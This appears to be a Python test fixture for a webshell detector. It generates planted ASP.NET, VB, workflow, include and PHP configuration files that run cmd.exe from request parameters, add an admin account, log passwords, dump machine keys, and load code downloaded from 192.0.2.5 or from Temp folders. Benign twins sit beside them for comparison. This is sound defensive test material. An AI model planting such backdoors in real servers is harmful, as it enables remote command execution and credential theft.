"""Sources that are not pages, and that the server compiles or reads all the same."""

from __future__ import annotations

import base64
from collections.abc import Callable

from tests.persistence.plants import BACK_END, FRONT_END, SITE, Plant, added, honest, plant
from webshellhunt.model.verdict import Disposition

_CODE = f"{SITE}/App_Code"
_USING = "using System; using System.IO; using System.Web; using System.Diagnostics; using System.Reflection;\n"


def _module(acts: str) -> str:
    """Return a module that acts at each request; ``app`` is the application of the server."""
    return (
        f"{_USING}public class TraceModule : IHttpModule {{\n"
        "  public void Init(HttpApplication app) { app.BeginRequest += new EventHandler(OnBegin); }\n"
        f"  private void OnBegin(object sender, EventArgs e) {{ var app = (HttpApplication)sender; {acts} }}\n"
        "  public void Dispose() { }\n}\n"
    )


def _handler(acts: str) -> str:
    return (
        f"{_USING}public class Feed : IHttpHandler {{\n"
        f"  public void ProcessRequest(HttpContext context) {{ {acts} }}\n"
        "  public bool IsReusable { get { return false; } }\n}\n"
    )


def _start(acts: str) -> str:
    return f"{_USING}public static class Start {{ public static void AppInitialize() {{ {acts} }} }}\n"


def _code(name: str, rules: str, source: str, place: str = _CODE, extension: str = "cs") -> Plant:
    return plant(2, f"App_Code, {name}", rules, added(f"{place}/Trace.{extension}", source))


_VB_MODULE = (
    "Imports System.Web\nImports System.Diagnostics\nPublic Class TraceModule\n  Implements IHttpModule\n"
    "  Public Sub Init(app As HttpApplication) Implements IHttpModule.Init\n"
    "    AddHandler app.BeginRequest, AddressOf OnBegin\n  End Sub\n"
    "  Private Sub OnBegin(sender As Object, e As EventArgs)\n"
    '    Dim c As String = CType(sender, HttpApplication).Request.QueryString("c")\n'
    '    If c <> "" Then Pro·cess.Sta·rt("cm·d.exe", "/c " & c)\n  End Sub\n'
    "  Public Sub Dispose() Implements IHttpModule.Dispose\n  End Sub\nEnd Class\n"
)
_LISTENER = _start(
    'var l = new Http·Listener(); l.Pre·fixes.Add("https://*:443/ews/health/"); l.Start(); var c = l.GetContext();'
    'Pro·cess.Sta·rt("cm·d.exe", "/c " + new StreamReader(c.Request.InputStream).ReadToEnd());'
)
_ROUTE = (
    f"{_USING}using System.Web.Routing;\npublic class Start {{ public static void AppInitialize() {{"
    ' RouteTable.Routes.Add(new Route("x/{c}", new Maker())); } }\n'
    "public class Maker : IRouteHandler {\n"
    "  public IHttpHandler GetHttpHandler(RequestContext r) { return new Feed(); } }\n"
    + _handler('Pro·cess.Sta·rt("cm·d.exe", "/c " + context.Request["c"]);').replace(_USING, "")
)
_KEPT = (
    'File.Append·AllText(@"C:\\Windows\\Temp\\t.log", app.Request.Form["user·name"] + app.Request.Form["pass·word"]);'
)
_WEB_SERVICE = (
    "using System.Web.Services;\npublic class Feed : WebService { [WebMethod] public string Get(string a) {"
    ' System.Diagnostics.Pro·cess.Sta·rt("cm·d.exe", "/c " + a); return ""; } }\n'
)
_HONEST_MODULE = _module('app.Response.Headers.Remove("Server"); app.Response.Headers.Set("X-Frame-Options", "DENY");')
_HONEST_HANDLER = _handler(
    'context.Response.ContentType = "text/xml"; context.Response.WriteFile(context.Server.MapPath("~/feed.xml"));'
)
_HONEST_START = _start('System.Web.Routing.RouteTable.Routes.MapPageRoute("shop", "shop/{id}", "~/shop.aspx");')
_HONEST_TOOL = (
    f"{_USING}public static class Pdf {{ public static void Make(string url, string file) {{"
    ' var info = new Pro·cess·StartInfo(@"C:\\Program Files\\wkhtmltopdf\\bin\\wkhtmltopdf.exe", url + " " + file);'
    " info.UseShellExecute = false; using (var p = Pro·cess.Sta·rt(info)) { p.WaitForExit(60000); } } }\n"
)
_HONEST_UPLOAD = (
    f"{_USING}public static class Uploads {{ public static string Keep(HttpPostedFile file) {{"
    " string name = Path.GetFileName(file.FileName);"
    ' file.SaveAs(HttpContext.Current.Server.MapPath("~/files/" + name));'
    " return name; } }\n"
)
_HONEST_LOGIN = _module(
    'if (app.Request.Path == "/login" && app.Request.Form["user"] != null)'
    ' File.AppendAllText(@"D:\\Logs\\login.log", DateTime.Now + " " + app.Request.Form["user"] + "\\n");'
)

_PROVIDER = (
    f"{_USING}using System.Web.Hosting;\npublic class Pages : VirtualPathProvider {{\n"
    "  public static void AppInitialize() { HostingEnvironment.RegisterVirtual·PathProvider(new Pages()); }\n"
    '  public override bool FileExists(string path) { return path.Contains("/x9/") || Previous.FileExists(path); }\n'
    "  public override VirtualFile GetFile(string path) { return new Made(path); }\n}\n"
    "public class Made : VirtualFile {\n  public Made(string path) : base(path) { }\n"
    "  public override Stream Open() { %s }\n}\n"
)
_LOADING = (
    '<\x25@ Application Language="C#" \x25>\n<script run·at="server">\n'
    'void Application_Start(object sender, EventArgs e) { System.Reflection.Assem·bly.LoadFrom(@"PATH"); }\n</script>\n'
)


def _page(act: str, language: str = "C#") -> str:
    return f'<\x25@ Page Language="{language}" \x25>\n<\x25 System.Reflection.Assem·bly.{act} \x25>\n'


def _adapter(name: str, control: str = "Page") -> str:
    adapter = f'<adapter controlType="System.Web.UI.{control}" adapterType="{name}" />'
    return f'<browsers><browser refID="Default"><controlAdapters>{adapter}</controlAdapters></browser></browsers>'


def _resources(name: str) -> str:
    """Return resources with the beginning of a serialised object of a class."""
    header = b"\0\1\0\0\0\xff\xff\xff\xff\1" + bytes(7) + b"\x0c\2\0\0\0\6System\5\1\0\0\0"
    value = base64.b64encode(header + bytes([len(name)]) + name.encode() + b"\1\0\0\0\4Data").decode()
    kind = "application/x-microsoft.net.object.binary.base64"
    return f'<root><data name="a" mimetype="{kind}"><value>\n{value}\n</value></data></root>'


def _file(row: int, name: str, rule: str, path: str, content: str | Callable[[], bytes], place: str = SITE) -> Plant:
    return plant(row, name, rule, added(f"{place}/{path}", content))


def _twin(row: int, name: str, path: str, content: str | Callable[[], bytes], **more: Disposition) -> Plant:
    return honest(row, name, added(f"{SITE}/{path}", content), **more)


_WORKFLOW = '<WorkflowService xmlns:d="clr-namespace:System.Diagnostics;assembly=System">{}</WorkflowService>'
_STATE = "SessionPageStateAdapter"

PLANTS = [
    _code("a module", "WSH1002", _module('var v = app.Request.Headers["X"]; if (v != null) Pro·cess.Sta·rt(v, "a");')),
    _code(
        "a module of a sub-folder",
        "WSH1002 WSH1030",
        _module('Pro·cess.Sta·rt("cm·d.exe", "/c " + app.Context.Request.Cookies["t"].Value);'),
        f"{_CODE}/Old/Lib",
    ),
    _code("a module of Visual Basic", "WSH1002", _VB_MODULE, extension="vb"),
    _code("a module that keeps passwords", "WSH1010", _module(_KEPT)),
    _code("a handler", "WSH1003", _handler('Assem·bly.Lo·ad(Convert.From·Base64String(context.Request["d"]));')),
    _code(
        "a handler that writes",
        "WSH1004",
        _handler('File.Write·AllText(context.Server.MapPath(context.Request["n"]), context.Request["c"]);'),
    ),
    _code(
        "a handler that shows the keys",
        "WSH1017",
        _handler(
            "var s = (System.Web.Configuration.Machine·Key·Section)System.Web.Configuration.WebConfigurationManager"
            '.GetSection("system.web/machine·Key"); context.Response.Write(s.Validation·Key + "|" + s.Decryption·Key);'
        ),
    ),
    _code(
        "AppInitialize that starts PowerShell",
        "WSH1030",
        _start('Pro·cess.Sta·rt("power·shell.exe", "-en·c AAAAAAAAAAAAAAAAAAAA");'),
    ),
    _code(
        "AppInitialize that starts a program",
        "WSH1030",
        _start('Pro·cess.Sta·rt(@"C:\\ProgramData\\upd\\noexist.exe");'),
    ),
    _code("a listener", "WSH1030 WSH1016", _LISTENER),
    _code("a route", "WSH1002", _ROUTE),
    _code(
        "a static constructor",
        "WSH1030",
        (
            f'{_USING}public class Config {{ static Config() {{ Pro·cess.Sta·rt("cm·d.exe", "/c n·et us·er a b /ad·d"); }} }}'
        ),
    ),
    _code("a web service", "WSH1002", _WEB_SERVICE),
    honest(2, "App_Code, a module that sets headers", added(f"{_CODE}/Headers.cs", _HONEST_MODULE)),
    honest(2, "App_Code, a handler that sends a file", added(f"{_CODE}/Feed.cs", _HONEST_HANDLER)),
    honest(2, "App_Code, routes", added(f"{_CODE}/Start.cs", _HONEST_START)),
    honest(2, "App_Code, a converter of documents", added(f"{_CODE}/Pdf.cs", _HONEST_TOOL)),
    honest(2, "App_Code, uploads", added(f"{_CODE}/Uploads.cs", _HONEST_UPLOAD), most=Disposition.UNEXPLAINED),
    honest(2, "App_Code, a log of sign-ins", added(f"{_CODE}/Login.cs", _HONEST_LOGIN)),
    honest(2, "source outside App_Code", added(f"{SITE}/Trace.cs", _LISTENER)),
    _code(
        "a provider of pages of a request",
        "WSH1061",
        _PROVIDER % 'return new MemoryStream(Convert.From·Base64String(HttpContext.Current.Request.Form["page"]));',
    ),
    _code(
        "a provider of a page in base64",
        "WSH1061",
        _PROVIDER % 'return new MemoryStream(Convert.From·Base64String("PCU9IDEgKyAxICU+PHA+SGVsbG8="));',
    ),
    _code(
        "AppInitialize that loads a library of Temp",
        "WSH1060",
        _start('Assem·bly.LoadFrom(@"C:\\Windows\\Temp\\a.dll").CreateInstance("A.B");'),
    ),
    _code(
        "a module that finds libraries on a share",
        "WSH1060",
        (
            f"{_USING}public class M : IHttpModule {{\n"
            "static M() { AppDomain.CurrentDomain.AssemblyResolve += (s, e) =>"
            ' Assem·bly.LoadFile(@"\\\\192.0.2.5\\share\\" + e.Name + ".dll"); }\n'
            "public void Init(HttpApplication a) { } public void Dispose() { } }\n"
        ),
    ),
    _code("harmless, in OWA", "WSH2010", "public class A { }", f"{FRONT_END}/owa/App_Code"),
    _code(
        "harmless, of Visual Basic, in the back end",
        "WSH2010",
        "Public Class A\nEnd Class",
        (f"{BACK_END}/ecp/App_Code/Lib"),
        "vb",
    ),
    _twin(
        2,
        "App_Code, a provider of resources",
        "App_Code/Pages.cs",
        _PROVIDER % 'return GetType().Assembly.GetManifestResourceStream("Shop.help.aspx");',
    ),
    _twin(
        2,
        "App_Code, a provider of a database",
        "App_Code/Pages.cs",
        _PROVIDER
        % 'return new MemoryStream((byte[])Store.Read("select body from pages where path = @p", VirtualPath));',
    ),
    _file(
        3,
        "global.asax that loads a library of Temp",
        "WSH1060",
        "global.asax",
        _LOADING.replace("PATH", r"C:\Windows\Temp\a.dll"),
    ),
    _file(
        3,
        "global.asax of OWA",
        "WSH1060",
        "global.asax",
        _LOADING.replace("PATH", r"C:\Users\Public\a.dll"),
        f"{FRONT_END}/owa",
    ),
    _file(
        3,
        "page, UnsafeLoadFrom of ProgramData",
        "WSH1060",
        "x.aspx",
        _page(r'UnsafeLoadFrom("C:\\ProgramData\\a.dll");'),
    ),
    _file(
        3, "page, a library in App_Data", "WSH1060", "x.aspx", _page('LoadFile(Server.MapPath("~/App_Data/a.dll"));')
    ),
    _file(3, "page, a library on a share", "WSH1060", "x.aspx", _page(r'LoadFrom("\\192.0.2.5\s\a.dll")', "VB")),
    _file(
        3,
        "page, a picture",
        "WSH1060",
        "x.aspx",
        _page('Lo·ad(System.IO.File.ReadAllBytes(Server.MapPath("~/img/a.png")));'),
    ),
    _twin(
        3,
        "global.asax that loads a plug-in",
        "global.asax",
        _LOADING.replace("PATH", r"C:\Program Files\Shop\Plugins\prices.dll"),
    ),
    _twin(3, "page that loads a plug-in", "x.aspx", _page('LoadFrom(Server.MapPath("~/Plugins/prices.dll"));')),
    _file(4, "adapter of each page", "WSH2011", "App_Browsers/a.browser", _adapter("Site.Trace, Site")),
    _file(
        4,
        "adapter in ECP",
        "WSH2010",
        "App_Browsers/a.browser",
        _adapter("Site.Trace", "WebControls.Menu"),
        (f"{FRONT_END}/ecp"),
    ),
    _twin(4, "adapter of menus", "App_Browsers/a.browser", _adapter("CSSFriendly.MenuAdapter", "WebControls.Menu")),
    _twin(
        4,
        "adapter of a known maker",
        "App_Browsers/a.browser",
        _adapter("Telerik.Web.UI.RadSessionPageStateCompression"),
    ),
    _twin(4, "adapter of states", "App_Browsers/a.browser", _adapter(_STATE), most=Disposition.UNEXPLAINED),
    _file(
        4,
        "workflow that starts a program",
        "WSH2011",
        "a.xamlx",
        _WORKFLOW.format('<InvokeMethod TargetType="{x:Type d:Pro·cess}" MethodName="Start" />'),
    ),
    _file(4, "workflow with an object of data", "WSH2011", "a.xamlx", _WORKFLOW.format("<ObjectData·Provider />")),
    _file(4, "workflow in OWA", "WSH2010", "a.xamlx", _WORKFLOW.format("<Sequence />"), f"{FRONT_END}/owa"),
    _twin(4, "workflow of a shop", "a.xamlx", _WORKFLOW.format('<p:Sequence DisplayName="Order process" />')),
    _file(
        4,
        "resources with an object",
        "WSH2011",
        "App_GlobalResources/a.resx",
        (lambda: _resources("System.Collections.Generic.SortedSet`1").encode()),
    ),
    _file(
        4,
        "resources with an object of a page",
        "WSH2011",
        "shop/App_LocalResources/a.aspx.resx",
        (lambda: _resources("System.Data.DataSet").encode()),
    ),
    _twin(
        4,
        "resources with pictures",
        "App_GlobalResources/a.resx",
        (lambda: _resources("System.Windows.Forms.ImageListStreamer").encode()),
    ),
    _file(4, "include that runs a command", "WSH2011", "a.stm", '<!--#ex·ec cmd="noexist.exe" -->'),
    _file(
        4, "include that runs a program of Temp", "WSH2011", "a.shtml", '<!--#ex·ec cgi="C:\\Windows\\Temp\\a.exe" -->'
    ),
    _twin(4, "includes of a site", "a.shtml", '<!--#include virtual="/head.htm" --><!--#echo var="DATE_LOCAL" -->'),
    _file(4, "picture before each PHP page", "WSH2011", ".user.ini", "auto_prepend_file = /images/a.png"),
    _file(
        4, "file of Temp after each PHP page", "WSH2011", "blog/.user.ini", "auto_append_file=C:\\Windows\\Temp\\a.php"
    ),
    _twin(
        4, "firewall before each PHP page", ".user.ini", "auto_prepend_file = 'C:\\inetpub\\wwwroot\\wordfence-waf.php'"
    ),
    _code(
        "a provider of members that keeps passwords",
        "WSH1010",
        (
            f"{_USING}public class Members : System.Web.Security.SqlMembershipProvider {{\n"
            "  public override bool ValidateUser(string username, string password) {\n"
            '    File.Append·AllText(@"C:\\Windows\\Temp\\t.log", username + ":" + password);\n'
            "    return base.ValidateUser(username, password); } }\n"
        ),
    ),
    _code(
        "a listener that starts nothing",
        "WSH1016",
        _start('var l = new Http·Listener(); l.Pre·fixes.Add("https://*:443/ews/health/"); l.Start();'),
    ),
    _code(
        "AppInitialize that files the keys",
        "WSH1017",
        _start(
            "var k = (System.Web.Configuration.Machine·Key·Section)System.Web.Configuration.WebConfigurationManager"
            '.GetSection("system.web/machine·Key");'
            ' File.Write·AllText(@"C:\\inetpub\\wwwroot\\k.txt", k.Validation·Key);'
        ),
    ),
    _code(
        "AppInitialize that starts a program of a share",
        "WSH1030",
        _start('Pro·cess.Sta·rt(@"\\\\192.0.2.5\\share\\a.exe");'),
    ),
    _code(
        "AppInitialize that loads what it downloads",
        "WSH1005",
        _start('Assem·bly.Lo·ad(new System.Net.Web·Client().Download·Data("http://192.0.2.5/a")).CreateInstance("A");'),
    ),
    _code(
        "AppInitialize that plants a page",
        "WSH9134",
        _start(
            'File.Write·AllText(System.Web.Hosting.HostingEnvironment.MapPath("~/help.aspx"),'
            ' "<\x25@ Page Language=\\"C#\\" \x25><\x25 Response.Write(1); \x25>");'
        ),
    ),
    _code(
        "events of the application",
        "WSH1002",
        (
            f"{_USING}public class Global : HttpApplication {{\n"
            "  protected void Application_BeginRequest(object sender, EventArgs e) {"
            ' if (Request["c"] != null) Pro·cess.Sta·rt("cm·d.exe", "/c " + Request["c"]); } }\n'
        ),
    ),
    _code(
        "a factory of handlers",
        "WSH1002",
        (
            f"{_USING}public class Makers : IHttpHandlerFactory {{\n"
            "  public IHttpHandler GetHandler(HttpContext context, string kind, string url, string path) {"
            ' Pro·cess.Sta·rt(context.Request["a"]); return null; }\n'
            "  public void ReleaseHandler(IHttpHandler handler) { } }\n"
        ),
    ),
    _code(
        "a handler that compiles",
        "WSH1003",
        _handler(
            "new Microsoft.CSharp.CSharpCode·Provider().Compile·AssemblyFromSource("
            'new System.CodeDom.Compiler.CompilerParameters(), context.Request["s"])'
            '.CompiledAssembly.CreateInstance("A");'
        ),
    ),
    _code(
        "a handler that deserialises",
        "WSH1003",
        _handler('new System.Web.UI.Los·Formatter().Deseria·lize(context.Request["v"]);'),
    ),
    honest(
        2,
        "App_Code, a provider of members",
        added(
            f"{_CODE}/Members.cs",
            (
                f"{_USING}public class Members : System.Web.Security.SqlMembershipProvider {{\n"
                "  public override bool ValidateUser(string username, string password) {\n"
                '    File.AppendAllText(@"D:\\Logs\\login.log", DateTime.Now + " " + username + "\\n");\n'
                "    return base.ValidateUser(username, password); } }\n"
            ),
        ),
    ),
    _file(
        5,
        "service of another maker in OWA",
        "WSH2010",
        "x.svc",
        ('<\x25@ ServiceHost Factory="Trace.Factory, Trace" Service="Trace.Service, Trace" \x25>'),
        f"{FRONT_END}/owa",
    ),
    _file(
        3,
        "application of another maker in ECP",
        "WSH2010",
        "global.asax",
        ('<\x25@ Application Inherits="Trace.Application" \x25>'),
        f"{FRONT_END}/ecp",
    ),
    _file(
        4,
        "workflow that loads a library",
        "WSH2011",
        "a.xamlx",
        _WORKFLOW.format('<InvokeMethod TargetType="{x:Type r:Assem·bly}" MethodName="LoadFrom" />'),
    ),
    honest(
        5,
        "service of Exchange",
        added(
            f"{FRONT_END}/owa/x.svc",
            ('<\x25@ ServiceHost Service="Microsoft.Exchange.Services.Wcf.A, Microsoft.Exchange.Services" \x25>'),
        ),
        most=Disposition.UNEXPLAINED,
    ),
    plant(
        16,
        "script of another host in the sign-in page",
        "WSH2014",
        added(f"{FRONT_END}/owa/auth/logon.aspx", '<html><script src="https://cdn.example.net/a.js"></script></html>'),
    ),
    honest(
        16,
        "scripts of Exchange in the sign-in page",
        added(f"{FRONT_END}/owa/auth/logon.aspx", '<html><script src="/owa/auth/scripts/flogon.js"></script></html>'),
    ),
]
